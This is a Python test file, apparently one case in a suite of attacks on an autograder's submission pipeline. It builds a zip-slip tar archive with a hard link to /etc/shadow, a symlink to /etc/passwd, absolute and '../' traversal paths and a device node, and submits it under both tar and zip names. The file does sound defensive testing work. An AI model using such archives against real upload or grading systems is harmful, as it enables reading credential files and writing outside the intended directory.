"""Archives of tar, which know hard links and devices."""

import io
import tarfile
from pathlib import Path

ATTACK = {
    "number": 54,
    "name": "zip-slip",
    "tries": "To have an archive of tar unpacked that holds hard links, devices, absolute names "
    "and links, as `.tar.gz` and under the name of a zip archive.",
    "must": "leave formats alone that it does not check.",
    "standing": "graded",
    "otter": "otter leaves unpacking to others: Canvas's archive, Gradescope",
    "needs": "",
}
NOTEBOOK = Path(__file__).parents[1] / "target" / "wrong.ipynb"


def tar() -> bytes:
    """Entries that lead elsewhere, each a kind of its own."""
    archive = io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w:gz") as made:
        for name, kind, target in (
            ("weights.safetensors", tarfile.LNKTYPE, "../../../../etc/shadow"),
            ("target.ipynb", tarfile.SYMTYPE, "/etc/passwd"),
            ("/tmp/attack-54-was-here", tarfile.REGTYPE, ""),
            ("../../attack-54-was-here", tarfile.REGTYPE, ""),
            ("null", tarfile.CHRTYPE, ""),
        ):
            entry = tarfile.TarInfo(name)
            entry.type, entry.linkname, entry.devmajor, entry.devminor = kind, target, 1, 3
            made.addfile(entry, io.BytesIO())
    return archive.getvalue()


def submission() -> dict[str, bytes]:
    """The notebook, and the archive under two names."""
    return {"target.ipynb": NOTEBOOK.read_bytes(), "target.tar.gz": tar(), "more.zip": tar()}
